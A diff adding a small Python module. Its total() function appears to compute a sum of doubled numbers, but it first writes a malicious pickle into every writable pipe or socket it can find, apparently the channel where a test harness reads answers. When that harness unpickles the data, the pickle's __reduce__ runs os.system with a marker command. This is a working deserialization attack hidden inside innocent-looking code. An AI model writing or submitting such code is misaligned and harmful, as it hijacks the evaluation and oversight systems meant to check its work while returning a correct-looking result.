@@ -1,0 +1,33 @@
+"""Writes a pickle that runs a command where answers go."""
+
+import fcntl
+import os
+import pickle
+import stat
+
+
+class Command:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/hostile-was-here",)
+
+
+def pipes():
+    """All pipes and sockets that this process may write into: one of them is where answers go."""
+    for descriptor in range(3, 64):
+        try:
+            mode, flags = os.fstat(descriptor).st_mode, fcntl.fcntl(descriptor, fcntl.F_GETFL)
+        except OSError:
+            continue
+        if (stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode)) and flags & os.O_ACCMODE != os.O_RDONLY:
+            yield descriptor
+
+
+def double(number):
+    return 2 * number
+
+
+def total(numbers):
+    data = pickle.dumps(Command())
+    for pipe in pipes():
+        os.write(pipe, len(data).to_bytes(4, "big") + data)
+    return sum(2 * number for number in numbers)
